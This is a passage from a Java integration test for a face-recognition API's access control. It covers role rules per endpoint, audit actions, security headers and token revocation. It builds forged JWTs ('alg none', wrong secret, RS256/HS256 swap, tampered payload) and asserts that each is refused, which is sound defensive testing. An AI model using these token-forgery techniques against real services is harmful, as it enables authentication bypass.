package dev.facerec.api.http.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import dev.facerec.api.TestHttp;
import dev.facerec.api.ThrowawayDataFolder;
import dev.facerec.api.http.policy.Access;
import dev.facerec.api.http.policy.GalleryScope;
import dev.facerec.api.http.policy.Policies;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Access control through real HTTP: every endpoint of the application's own mappings against its rule (so a new
 * endpoint without a rule fails here), forged and revoked credentials, brute force, and hostile input.
 */
@SpringBootTest(
        webEnvironment = WebEnvironment.RANDOM_PORT,
        properties = {
            "facerec.ml.models-dir=${facerec.models.dir}",
            "facerec.security.jwt-secret-key=" + SecurityEndToEndIT.SECRET,
            // Small enough to reach in a test; fast refusals so that twenty failures take no half minute.
            "facerec.security.max-failures-per-account-all-addresses=" + SecurityEndToEndIT.ACCOUNT_FAILURES,
            "facerec.security.failure-delay=10ms"
        })
class SecurityEndToEndIT {
    static final String SECRET = "it-secret-0123456789-abcdefghijklmnopqrstuvwxyz";
    static final int ACCOUNT_FAILURES = 12;
    private static final String PASSWORD = "Long-Passphrase-For-Tests-2026";
    private static final String OTHER_PASSWORD = "Another-Passphrase-For-Tests-2027";
    private static final JsonMapper JSON = JsonMapper.builder().build();

    /** Who may call each endpoint: PUBLIC, AUTHENTICATED (any signed-in caller), or the lowest role. */
    private static final Map<String, String> RULES = new LinkedHashMap<>();

    static {
        for (String probe : List.of("/health", "/health/live", "/health/ready", "/api/v1/health")) {
            RULES.put("GET " + probe, "PUBLIC");
        }
        // The OpenAPI document and Swagger UI (springdoc's own endpoints): public, in their own chain
        // (ApiDocsSecurity).
        for (String docs : List.of("/v3/api-docs", "/v3/api-docs.yaml", "/v3/api-docs/swagger-config", "/swagger-ui")) {
            RULES.put("GET " + docs, "PUBLIC");
        }
        RULES.put("POST /api/v1/auth/login", "PUBLIC");
        RULES.put("POST /api/v1/auth/refresh", "PUBLIC");
        RULES.put("POST /api/v1/auth/logout", "AUTHENTICATED");
        RULES.put("POST /api/v1/auth/password", "AUTHENTICATED");
        RULES.put("GET /api/v1/auth/me", "AUTHENTICATED");
        RULES.put("POST /api/v1/auth/register", "ADMIN");
        RULES.put("GET /health/detailed", "OPERATOR");
        RULES.put("GET /metrics", "OPERATOR");
        RULES.put("GET /metrics/prometheus", "OPERATOR");
        RULES.put("GET /api/v1/upload/supported-formats", "VIEWER");
        RULES.put("GET /upload/supported-formats", "VIEWER");
        RULES.put("POST /api/v1/faces/detect", "VIEWER");
        RULES.put("POST /api/v1/faces/compare", "VIEWER");
        RULES.put("POST /api/v1/identify", "VIEWER");
        RULES.put("POST /api/v1/persons/{personId}/verify", "VIEWER");
        RULES.put("POST /api/v1/galleries", "OPERATOR");
        RULES.put("GET /api/v1/galleries", "OPERATOR");
        RULES.put("GET /api/v1/galleries/{id}", "OPERATOR");
        RULES.put("DELETE /api/v1/galleries/{id}", "OPERATOR");
        RULES.put("POST /api/v1/persons", "OPERATOR");
        RULES.put("GET /api/v1/persons", "OPERATOR");
        RULES.put("GET /api/v1/persons/{id}", "OPERATOR");
        RULES.put("PATCH /api/v1/galleries/{id}", "OPERATOR");
        RULES.put("PATCH /api/v1/persons/{id}", "OPERATOR");
        RULES.put("DELETE /api/v1/persons/{id}", "OPERATOR");
        RULES.put("POST /api/v1/persons/{personId}/faces", "OPERATOR");
        RULES.put("GET /api/v1/persons/{personId}/faces", "OPERATOR");
        RULES.put("DELETE /api/v1/persons/{personId}/faces/{faceId}", "OPERATOR");
        RULES.put("GET /api/v1/persons/{personId}/faces/{faceId}/image", "OPERATOR");
        RULES.put("POST /api/v1/jobs/enrollments", "OPERATOR");
        RULES.put("GET /api/v1/jobs/{id}", "OPERATOR");
        RULES.put("GET /api/v1/jobs/{id}/items", "OPERATOR");
        RULES.put("POST /api/v1/jobs/{id}/cancel", "OPERATOR");
        RULES.put("GET /api/v1/jobs/{id}/events", "OPERATOR");
        RULES.put("GET /api/v1/users", "ADMIN");
        RULES.put("GET /api/v1/users/{id}", "ADMIN");
        RULES.put("PATCH /api/v1/users/{id}", "ADMIN");
        RULES.put("POST /api/v1/api-keys", "ADMIN");
        RULES.put("GET /api/v1/api-keys", "ADMIN");
        RULES.put("DELETE /api/v1/api-keys/{id}", "ADMIN");
        RULES.put("POST /api/v1/webhooks", "ADMIN");
        RULES.put("GET /api/v1/webhooks", "ADMIN");
        RULES.put("GET /api/v1/webhooks/{id}", "ADMIN");
        RULES.put("DELETE /api/v1/webhooks/{id}", "ADMIN");
        RULES.put("POST /api/v1/webhooks/{id}/enable", "ADMIN");
        RULES.put("POST /api/v1/webhooks/{id}/test", "ADMIN");
        RULES.put("GET /api/v1/webhooks/{id}/deliveries", "ADMIN");
        RULES.put("POST /api/v1/admin/encryption/rotation", "ADMIN");
        RULES.put("GET /api/v1/admin/encryption/rotation", "ADMIN");
        RULES.put("POST /api/v1/admin/model-migrations", "ADMIN");
        RULES.put("GET /api/v1/admin/model-migrations", "ADMIN");
        RULES.put("POST /api/v1/admin/model-migrations/pass", "ADMIN");
        RULES.put("POST /api/v1/admin/model-migrations/switch-over", "ADMIN");
        RULES.put("POST /api/v1/admin/model-migrations/rollback", "ADMIN");
        RULES.put("DELETE /api/v1/admin/model-migrations/old-embeddings", "ADMIN");
        RULES.put("DELETE /api/v1/admin/model-migrations/new-embeddings", "ADMIN");
        RULES.put("GET /api/v1/audit", "ADMIN");
        RULES.put("GET /api/v1/galleries/{id}/access", "ADMIN");
        RULES.put("PUT /api/v1/galleries/{id}/access", "ADMIN");
    }

    /**
     * The audit action of each endpoint under /api/v1 (the rest are not audited): the names readers of the log rely
     * on, pinned so that a moved or renamed handler cannot change them unnoticed.
     */
    private static final Map<String, String> ACTIONS = new LinkedHashMap<>();

    static {
        ACTIONS.put("POST /api/v1/auth/login", "auth.login");
        ACTIONS.put("POST /api/v1/auth/refresh", "auth.refresh");
        ACTIONS.put("POST /api/v1/auth/logout", "auth.logout");
        ACTIONS.put("POST /api/v1/auth/password", "auth.password.change");
        ACTIONS.put("GET /api/v1/auth/me", "auth.me");
        ACTIONS.put("POST /api/v1/auth/register", "user.create");
        ACTIONS.put("GET /api/v1/upload/supported-formats", "upload.supported-formats");
        ACTIONS.put("POST /api/v1/faces/detect", "face.detect");
        ACTIONS.put("POST /api/v1/faces/compare", "face.compare");
        ACTIONS.put("POST /api/v1/identify", "identify");
        ACTIONS.put("POST /api/v1/persons/{personId}/verify", "person.verify");
        ACTIONS.put("POST /api/v1/galleries", "gallery.create");
        ACTIONS.put("GET /api/v1/galleries", "gallery.list");
        ACTIONS.put("GET /api/v1/galleries/{id}", "gallery.read");
        ACTIONS.put("DELETE /api/v1/galleries/{id}", "gallery.delete");
        ACTIONS.put("PATCH /api/v1/galleries/{id}", "gallery.update");
        ACTIONS.put("POST /api/v1/persons", "person.create");
        ACTIONS.put("GET /api/v1/persons", "person.list");
        ACTIONS.put("GET /api/v1/persons/{id}", "person.read");
        ACTIONS.put("PATCH /api/v1/persons/{id}", "person.update");
        ACTIONS.put("DELETE /api/v1/persons/{id}", "person.delete");
        ACTIONS.put("POST /api/v1/persons/{personId}/faces", "face.enroll");
        ACTIONS.put("GET /api/v1/persons/{personId}/faces", "face.list");
        ACTIONS.put("DELETE /api/v1/persons/{personId}/faces/{faceId}", "face.delete");
        ACTIONS.put("GET /api/v1/persons/{personId}/faces/{faceId}/image", "face.image.read");
        ACTIONS.put("POST /api/v1/jobs/enrollments", "job.create");
        ACTIONS.put("GET /api/v1/jobs/{id}", "job.read");
        ACTIONS.put("GET /api/v1/jobs/{id}/items", "job.items");
        ACTIONS.put("POST /api/v1/jobs/{id}/cancel", "job.cancel");
        ACTIONS.put("GET /api/v1/jobs/{id}/events", "job.events");
        ACTIONS.put("GET /api/v1/users", "user.list");
        ACTIONS.put("GET /api/v1/users/{id}", "user.read");
        ACTIONS.put("PATCH /api/v1/users/{id}", "user.change");
        ACTIONS.put("POST /api/v1/api-keys", "api-key.create");
        ACTIONS.put("GET /api/v1/api-keys", "api-key.list");
        ACTIONS.put("DELETE /api/v1/api-keys/{id}", "api-key.revoke");
        ACTIONS.put("POST /api/v1/webhooks", "webhook.create");
        ACTIONS.put("GET /api/v1/webhooks", "webhook.list");
        ACTIONS.put("GET /api/v1/webhooks/{id}", "webhook.get");
        ACTIONS.put("DELETE /api/v1/webhooks/{id}", "webhook.delete");
        ACTIONS.put("POST /api/v1/webhooks/{id}/enable", "webhook.enable");
        ACTIONS.put("POST /api/v1/webhooks/{id}/test", "webhook.test");
        ACTIONS.put("GET /api/v1/webhooks/{id}/deliveries", "webhook.deliveries");
        ACTIONS.put("POST /api/v1/admin/encryption/rotation", "encryption.rotation.start");
        ACTIONS.put("GET /api/v1/admin/encryption/rotation", "encryption.rotation.read");
        ACTIONS.put("POST /api/v1/admin/model-migrations", "model-migration.start");
        ACTIONS.put("GET /api/v1/admin/model-migrations", "model-migration.read");
        ACTIONS.put("POST /api/v1/admin/model-migrations/pass", "model-migration.rerun");
        ACTIONS.put("POST /api/v1/admin/model-migrations/switch-over", "model-migration.switch-over");
        ACTIONS.put("POST /api/v1/admin/model-migrations/rollback", "model-migration.rollback");
        ACTIONS.put("DELETE /api/v1/admin/model-migrations/old-embeddings", "model-migration.drop-old");
        ACTIONS.put("DELETE /api/v1/admin/model-migrations/new-embeddings", "model-migration.drop-new");
        ACTIONS.put("GET /api/v1/audit", "audit.read");
        ACTIONS.put("GET /api/v1/galleries/{id}/access", "galleries.access");
        ACTIONS.put("PUT /api/v1/galleries/{id}/access", "galleries.access");
        // The CompreFace-compatible API (api.compat): its own chain, keys only, CompreFace's error bodies.
        ACTIONS.put("POST /api/v1/recognition/recognize", "compreface.recognize");
        ACTIONS.put("POST /api/v1/recognition/faces/{imageId}/verify", "compreface.example.verify");
        ACTIONS.put("POST /api/v1/recognition/subjects", "compreface.subject.create");
        ACTIONS.put("POST /api/v1/recognition/subjects/", "compreface.subject.create");
        ACTIONS.put("GET /api/v1/recognition/subjects", "compreface.subject.list");
        ACTIONS.put("GET /api/v1/recognition/subjects/", "compreface.subject.list");
        ACTIONS.put("PUT /api/v1/recognition/subjects/{subject}", "compreface.subject.rename");
        ACTIONS.put("DELETE /api/v1/recognition/subjects/{subject}", "compreface.subject.delete");
        ACTIONS.put("DELETE /api/v1/recognition/subjects", "compreface.subject.delete-all");
        ACTIONS.put("DELETE /api/v1/recognition/subjects/", "compreface.subject.delete-all");
        ACTIONS.put("POST /api/v1/recognition/faces", "compreface.example.add");
        ACTIONS.put("POST /api/v1/recognition/faces/", "compreface.example.add");
        ACTIONS.put("GET /api/v1/recognition/faces", "compreface.example.list");
        ACTIONS.put("GET /api/v1/recognition/faces/", "compreface.example.list");
        ACTIONS.put("DELETE /api/v1/recognition/faces", "compreface.example.delete-all");
        ACTIONS.put("DELETE /api/v1/recognition/faces/", "compreface.example.delete-all");
        ACTIONS.put("DELETE /api/v1/recognition/faces/{imageId}", "compreface.example.delete");
        ACTIONS.put("POST /api/v1/recognition/faces/delete", "compreface.example.delete-several");
        ACTIONS.put("GET /api/v1/recognition/faces/{imageId}/img", "compreface.example.image");
        ACTIONS.put("POST /api/v1/detection/detect", "compreface.detect");
        ACTIONS.put("POST /api/v1/verification/verify", "compreface.verify");
    }

    /** Which endpoints take an Idempotency-Key; the other POSTs and PATCHes say why they do not. */
    private static final Set<String> IDEMPOTENT = Set.of(
            "POST /api/v1/galleries",
            "POST /api/v1/persons",
            "POST /api/v1/persons/{personId}/faces",
            "POST /api/v1/jobs/enrollments");

    @TempDir
    static Path dataDir;

    @DynamicPropertySource
    static void dataFolder(DynamicPropertyRegistry registry) {
        ThrowawayDataFolder.register(registry, dataDir);
    }

    @LocalServerPort
    int port;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    private TestHttp admin;
    private static boolean registered;
    private String viewerToken;
    private String operatorToken;

    /** One viewer and one operator for the whole class (the context, and so the database, is shared). */
    @BeforeEach
    void accounts() throws Exception {
        admin = new TestHttp(port);
        if (!registered) {
            register("viewer", "VIEWER");
            register("operator", "OPERATOR");
            registered = true;
        }
        viewerToken = TestHttp.signIn(port, "viewer", PASSWORD);
        operatorToken = TestHttp.signIn(port, "operator", PASSWORD);
    }

    private String register(String name, String role) throws Exception {
        HttpResponse<String> created = admin.postJson(
                "/api/v1/auth/register",
                "{\"username\":\"" + name + "\",\"password\":\"" + PASSWORD + "\",\"role\":\"" + role + "\"}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        return JSON.readTree(created.body()).get("id").asString();
    }

    @Test
    void everyEndpointHasAKnownRuleAndAnswersAnonymousAndLesserRolesWithProblems() throws Exception {
        Set<String> mapped = new TreeSet<>();
        for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
            Set<String> patterns = info.getPatternValues();
            if (patterns.contains("/error")
                    || patterns.stream().anyMatch(p -> p.startsWith("${"))
                    || patterns.stream().anyMatch(SecurityEndToEndIT::compreFace)) {
                continue;
            }
            for (String pattern : patterns) {
                info.getMethodsCondition().getMethods().forEach(method -> mapped.add(method.name() + " " + pattern));
            }
        }
        assertThat(mapped)
                .as("every endpoint needs its rule in this test (and its @Access)")
                .containsExactlyInAnyOrderElementsOf(RULES.keySet());

        for (Map.Entry<String, String> rule : RULES.entrySet()) {
            String method = rule.getKey().split(" ")[0];
            String path = rule.getKey()
                    .split(" ")[1]
                    .replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
            HttpResponse<String> anonymous = TestHttp.anonymous(port).call(method, path);
            if (rule.getValue().equals("PUBLIC")) {
                assertThat(anonymous.statusCode()).as(rule.getKey()).isNotIn(401, 403);
                continue;
            }
            assertProblem(anonymous, 401, "UNAUTHENTICATED", rule.getKey());
            assertThat(anonymous.headers().firstValue("WWW-Authenticate"))
                    .as(rule.getKey())
                    .isPresent();
            String lesser = switch (rule.getValue()) {
                case "ADMIN" -> operatorToken;
                case "OPERATOR" -> viewerToken;
                default -> null;
            };
            if (lesser != null) {
                assertProblem(TestHttp.withToken(port, lesser).call(method, path), 403, "FORBIDDEN", rule.getKey());
            }
            String allowed = switch (rule.getValue()) {
                case "ADMIN" -> null;
                case "OPERATOR" -> operatorToken;
                default -> TestHttp.signIn(port, "viewer", PASSWORD);
            };
            HttpResponse<String> permitted = allowed == null
                    ? admin.call(method, path)
                    : TestHttp.withToken(port, allowed).call(method, path);
            assertThat(permitted.statusCode())
                    .as(rule.getKey() + " " + permitted.body())
                    .isNotIn(401, 403);
        }
    }

    /**
     * The CompreFace-compatible paths have their own chain: without a key, every one of them answers CompreFace's 400
     * code 20, never a problem body or a 2xx; with a key of too small a role, 403 code 10 (CompreFaceIT covers the
     * rest with real keys).
     */
    @Test
    void everyCompreFaceEndpointRefusesACallerWithoutAKeyInCompreFacesWords() throws Exception {
        Set<String> compat = new TreeSet<>();
        for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
            for (String pattern : info.getPatternValues()) {
                if (compreFace(pattern)) {
                    info.getMethodsCondition()
                            .getMethods()
                            .forEach(method -> compat.add(method.name() + " " + pattern));
                }
            }
        }
        assertThat(compat).hasSize(21);
        for (String route : compat) {
            String method = route.split(" ")[0];
            String path = route.split(" ")[1].replaceAll(
                    "\\{[^}]+}", UUID.randomUUID().toString());
            HttpResponse<String> anonymous = TestHttp.anonymous(port).call(method, path);
            assertThat(anonymous.statusCode()).as(route).isEqualTo(400);
            assertThat(JSON.readTree(anonymous.body()).path("code").asInt())
                    .as(route + " " + anonymous.body())
                    .isEqualTo(20);
            HttpResponse<String> bearer =
                    TestHttp.withToken(port, operatorToken).call(method, path);
            assertThat(bearer.statusCode())
                    .as(route + ": a bearer token is not a CompreFace key")
                    .isEqualTo(400);
        }
    }

    private static boolean compreFace(String pattern) {
        return pattern.startsWith("/api/v1/recognition")
                || pattern.startsWith("/api/v1/detection")
                || pattern.startsWith("/api/v1/verification");
    }

    /**
     * Every handler of the application declares its policies next to it (dev.facerec.api.http.policy): who may call it, its
     * audit action or why it has none, whether it takes an Idempotency-Key (POST and PATCH, which HTTP does not make
     * idempotent), and where it names its gallery, by a path variable or parameter it really has. The error page and
     * springdoc's own endpoints (their own chain, ApiDocsSecurity) are not the application's handlers.
     */
    @Test
    void everyHandlerDeclaresItsPolicies() {
        List<String> missing = new ArrayList<>();
        Map<String, String> actions = new TreeMap<>();
        Set<String> idempotent = new TreeSet<>();
        for (Map.Entry<RequestMappingInfo, HandlerMethod> entry :
                mappings.getHandlerMethods().entrySet()) {
            HandlerMethod handler = entry.getValue();
            Set<String> patterns = entry.getKey().getPatternValues();
            if (patterns.contains("/error") || !handler.getBeanType().getName().startsWith("dev.facerec.")) {
                continue;
            }
            Set<RequestMethod> methods = entry.getKey().getMethodsCondition().getMethods();
            String name = handler.getBeanType().getSimpleName() + "."
                    + handler.getMethod().getName();
            if (Policies.find(handler, Access.class).isEmpty()) {
                missing.add(name + ": @Access");
            }
            var audit = Policies.audit(handler);
            boolean versioned = patterns.stream().anyMatch(pattern -> pattern.startsWith("/api/v1/"));
            if (audit.isEmpty()) {
                missing.add(name + ": @Audited or @NotAudited");
            } else if (audit.get().applies() && !versioned) {
                missing.add(name + ": @NotAudited (the audit log covers /api/v1 only, so @Audited would do nothing)");
            }
            var idempotency = Policies.idempotency(handler);
            boolean unsafe =
                    methods.isEmpty() || methods.contains(RequestMethod.POST) || methods.contains(RequestMethod.PATCH);
            if (unsafe && idempotency.isEmpty()) {
                missing.add(name + ": @Idempotent or @NotIdempotent");
            }
            Optional<GalleryScope> scope = Policies.find(handler, GalleryScope.class);
            if (scope.isEmpty()) {
                missing.add(name + ": @GalleryScope");
            } else {
                missing.addAll(wrongScope(name, scope.get(), patterns, handler));
            }
            for (String pattern : patterns) {
                for (RequestMethod method : methods) {
                    String key = method.name() + " " + pattern;
                    if (pattern.startsWith("/api/v1/")) {
                        audit.flatMap(Policies.Decision::yes).ifPresent(audited -> actions.put(key, audited.value()));
                    }
                    if (idempotency.map(Policies.Decision::applies).orElse(false)) {
                        idempotent.add(key);
                    }
                }
            }
        }
        assertThat(missing).as("handlers that do not declare a policy").isEmpty();
        assertThat(actions).as("audit actions by endpoint").containsExactlyInAnyOrderEntriesOf(ACTIONS);
        assertThat(idempotent)
                .as("endpoints that take an Idempotency-Key")
                .containsExactlyInAnyOrderElementsOf(IDEMPOTENT);
    }

    /** A scope that reads an id must name a path variable of every route, or a request parameter of the handler. */
    private static List<String> wrongScope(
            String name, GalleryScope scope, Set<String> patterns, HandlerMethod handler) {
        if (!scope.value().named()) {
            return scope.name().isEmpty()
                    ? List.of()
                    : List.of(name + ": @GalleryScope(" + scope.value() + ") reads no name");
        }
        boolean found = switch (scope.value()) {
            case GALLERY_IN_PATH, PERSON_IN_PATH ->
                patterns.stream().allMatch(pattern -> pattern.contains("{" + scope.name() + "}"));
            default ->
                Arrays.stream(handler.getMethodParameters())
                                .map(parameter -> parameter.getParameterAnnotation(RequestParam.class))
                                .filter(java.util.Objects::nonNull)
                                .anyMatch(param -> scope.name().equals(param.name())
                                        || scope.name().equals(param.value()))
                        || Arrays.stream(handler.getMethod().getParameters())
                                .anyMatch(parameter -> parameter.isAnnotationPresent(RequestParam.class)
                                        && parameter.getName().equals(scope.name()));
        };
        return found
                ? List.of()
                : List.of(name + ": @GalleryScope names '" + scope.name() + "', which the route does not have");
    }

    @Test
    void theRightCredentialsWorkAndResponsesCarrySecurityHeaders() throws Exception {
        HttpResponse<String> galleries = TestHttp.withToken(port, operatorToken).getText("/api/v1/galleries");
        assertThat(galleries.statusCode()).isEqualTo(200);
        var headers = galleries.headers();
        assertThat(headers.firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(headers.firstValue("X-Frame-Options")).contains("DENY");
        assertThat(headers.firstValue("Strict-Transport-Security"))
                .hasValueSatisfying(v -> assertThat(v).contains("max-age=31536000"));
        assertThat(headers.firstValue("Content-Security-Policy"))
                .contains("default-src 'none'; frame-ancestors 'none'");
        assertThat(headers.firstValue("Referrer-Policy")).contains("no-referrer");
        assertThat(headers.firstValue("Server")).isEmpty();
        assertThat(JSON.readTree(TestHttp.withToken(port, viewerToken)
                                .getText("/api/v1/auth/me")
                                .body())
                        .get("role")
                        .asString())
                .isEqualTo("VIEWER");
    }

    @Test
    void forgedExpiredAndMisdirectedTokensAreRefused() throws Exception {
        Map<String, String> forged = new LinkedHashMap<>();
        forged.put("alg none", unsigned(claims(UnaryOperator.identity())));
        forged.put(
                "wrong secret", hs256(claims(UnaryOperator.identity()), "another-secret-0123456789-abcdefghijklmnop"));
        forged.put("RS256 instead of HS256", rs256(claims(UnaryOperator.identity())));
        forged.put(
                "expired",
                hs256(claims(c -> c.expirationTime(Date.from(Instant.now().minusSeconds(300)))), SECRET));
        forged.put(
                "not yet valid",
                hs256(claims(c -> c.notBeforeTime(Date.from(Instant.now().plusSeconds(300)))), SECRET));
        forged.put("wrong issuer", hs256(claims(c -> c.issuer("someone-else")), SECRET));
        forged.put("wrong audience", hs256(claims(c -> c.audience("another-api")), SECRET));
        forged.put("no expiry", hs256(claims(c -> c.expirationTime(null)), SECRET));
        forged.put(
                "unknown subject", hs256(claims(c -> c.subject(UUID.randomUUID().toString())), SECRET));
        forged.put("tampered payload", tampered(viewerToken));
        forged.put("garbage", "not.a.token");
        for (Map.Entry<String, String> token : forged.entrySet()) {
            assertProblem(
                    TestHttp.withToken(port, token.getValue()).getText("/api/v1/users"),
                    401,
                    "UNAUTHENTICATED",
                    token.getKey());
        }
        assertThat(hs256(claims(UnaryOperator.identity()), SECRET))
                .as("the same claims, rightly signed, pass: the refusals above are for the forgery")
                .satisfies(valid -> assertThat(TestHttp.withToken(port, valid)
                                .getText("/api/v1/users")
                                .statusCode())
                        .isEqualTo(200));
    }

    @Test
    void logoutDisableAndPasswordChangeEndTokensAtOnce() throws Exception {
        String id = register("leaver", "OPERATOR");
        JsonNode session = login("leaver", PASSWORD);
        String access = session.get("accessToken").asString();
        String refresh = session.get("refreshToken").asString();
        assertThat(TestHttp.withToken(port, access).getText("/api/v1/galleries").statusCode())
                .isEqualTo(200);

        HttpResponse<String> out = TestHttp.withToken(port, access)
                .postJson("/api/v1/auth/logout", "{\"refreshToken\":\"" + refresh + "\"}");
        assertThat(out.statusCode()).isEqualTo(204);
        assertProblem(TestHttp.withToken(port, access).getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "logout");
        assertProblem(
                TestHttp.anonymous(port).postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + refresh + "\"}"),
                401,
                "UNAUTHENTICATED",
                "refresh after logout");

        String again = TestHttp.signIn(port, "leaver", PASSWORD);
        HttpResponse<String> disabled =
                admin.send(java.net.http.HttpRequest.newBuilder(admin.uri("/api/v1/users/" + id))
                        .header("Content-Type", "application/json")
                        .method("PATCH", java.net.http.HttpRequest.BodyPublishers.ofString("{\"enabled\":false}"))
                        .build());
        assertThat(disabled.statusCode()).as(disabled.body()).isEqualTo(200);
        assertProblem(TestHttp.withToken(port, again).getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "disabled");
        assertProblem(
                TestHttp.anonymous(port)
                        .postJson("/api/v1/auth/login", "{\"username\":\"leaver\",\"password\":\"" + PASSWORD + "\"}"),
                401,
                "UNAUTHENTICATED",
                "disabled sign-in");
    }

    @Test
    void aReusedRefreshTokenRevokesTheSignInAndEndsTheAccessTokensAtOnce() throws Exception {
        register("reuser", "OPERATOR");
        JsonNode first = login("reuser", PASSWORD);
        String oldRefresh = first.get("refreshToken").asString();
        JsonNode second = JSON.readTree(TestHttp.anonymous(port)
                .postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + oldRefresh + "\"}")
                .body());
        String newRefresh = second.get("refreshToken").asString();
        String access = second.get("accessToken").asString();
        assertThat(TestHttp.withToken(port, access).getText("/api/v1/galleries").statusCode())
                .isEqualTo(200);
        assertProblem(
                TestHttp.anonymous(port).postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + oldRefresh + "\"}"),
                401,
                "UNAUTHENTICATED",
                "reuse");
        assertProblem(
                TestHttp.withToken(port, access).getText("/api/v1/galleries"),
                401,
                "UNAUTHENTICATED",
                "the access token of the sign-in whose refresh token was reused");
        assertProblem(
                TestHttp.withToken(port, first.get("accessToken").asString()).getText("/api/v1/galleries"),
                401,
                "UNAUTHENTICATED",
                "the first access token of that sign-in");
        assertProblem(
                TestHttp.anonymous(port).postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + newRefresh + "\"}"),
                401,
                "UNAUTHENTICATED",
                "the family is revoked");
        assertThat(TestHttp.signIn(port, "reuser", PASSWORD))
                .as("the owner signs in again")
                .isNotBlank();
    }

    @Test
    void aDemotionAPasswordChangeAndADisableEndTheAccessTokenAtOnceEvenInTheSecondOfItsIssue() throws Exception {
        String id = register("changing", "ADMIN");
        String demoted = inOneSecond(() -> patchUser(id, "{\"role\":\"ADMIN\"}"), () -> {
            String token = TestHttp.signIn(port, "changing", PASSWORD);
            assertThat(patchUser(id, "{\"role\":\"OPERATOR\"}").statusCode()).isEqualTo(200);
            return token;
        });
        assertProblem(
                TestHttp.withToken(port, demoted).getText("/api/v1/users"), 401, "UNAUTHENTICATED", "after demotion");

        String[] password = {PASSWORD};
        String changed = inOneSecond(() -> {}, () -> {
            String token = TestHttp.signIn(port, "changing", password[0]);
            String next = password[0].equals(PASSWORD) ? OTHER_PASSWORD : PASSWORD;
            HttpResponse<String> change = TestHttp.withToken(port, token)
                    .postJson(
                            "/api/v1/auth/password",
                            "{\"currentPassword\":\"" + password[0] + "\",\"newPassword\":\"" + next + "\"}");
            assertThat(change.statusCode()).as(change.body()).isEqualTo(204);
            password[0] = next;
            return token;
        });
        assertProblem(
                TestHttp.withToken(port, changed).getText("/api/v1/galleries"),
                401,
                "UNAUTHENTICATED",
                "after a password change");

        String disabled = inOneSecond(() -> patchUser(id, "{\"enabled\":true}"), () -> {
            String token = TestHttp.signIn(port, "changing", password[0]);
            assertThat(patchUser(id, "{\"enabled\":false}").statusCode()).isEqualTo(200);
            return token;
        });
        assertProblem(
                TestHttp.withToken(port, disabled).getText("/api/v1/galleries"),
                401,
                "UNAUTHENTICATED",
                "after a disable");
    }

    @Test
    void anApiKeyFollowsItsOwnerDownAndStopsWhileTheOwnerIsDisabled() throws Exception {
        String ownerId = register("keyowner", "ADMIN");
        HttpResponse<String> created = TestHttp.withToken(port, TestHttp.signIn(port, "keyowner", PASSWORD))
                .postJson("/api/v1/api-keys", "{\"name\":\"owned\",\"role\":\"ADMIN\"}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        TestHttp key = TestHttp.withHeader(
                port, "X-API-Key", JSON.readTree(created.body()).get("key").asString());
        HttpResponse<String> madeByTheKey =
                key.postJson("/api/v1/api-keys", "{\"name\":\"made-by-a-key\",\"role\":\"ADMIN\"}");
        assertThat(madeByTheKey.statusCode()).as(madeByTheKey.body()).isEqualTo(201);
        TestHttp keyOfTheKey = TestHttp.withHeader(
                port, "X-API-Key", JSON.readTree(madeByTheKey.body()).get("key").asString());
        assertThat(key.getText("/api/v1/users").statusCode()).isEqualTo(200);
        assertThat(keyOfTheKey.getText("/api/v1/users").statusCode()).isEqualTo(200);

        assertThat(patchUser(ownerId, "{\"role\":\"OPERATOR\"}").statusCode()).isEqualTo(200);
        assertProblem(key.getText("/api/v1/users"), 403, "FORBIDDEN", "an ADMIN key of an owner now OPERATOR");
        assertProblem(keyOfTheKey.getText("/api/v1/users"), 403, "FORBIDDEN", "a key made by that key");
        assertThat(key.getText("/api/v1/galleries").statusCode()).isEqualTo(200);
        assertThat(JSON.readTree(key.getText("/api/v1/auth/me").body())
                        .get("role")
                        .asString())
                .isEqualTo("OPERATOR");

        assertThat(patchUser(ownerId, "{\"enabled\":false}").statusCode()).isEqualTo(200);
        assertProblem(key.getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "the key of a disabled owner");
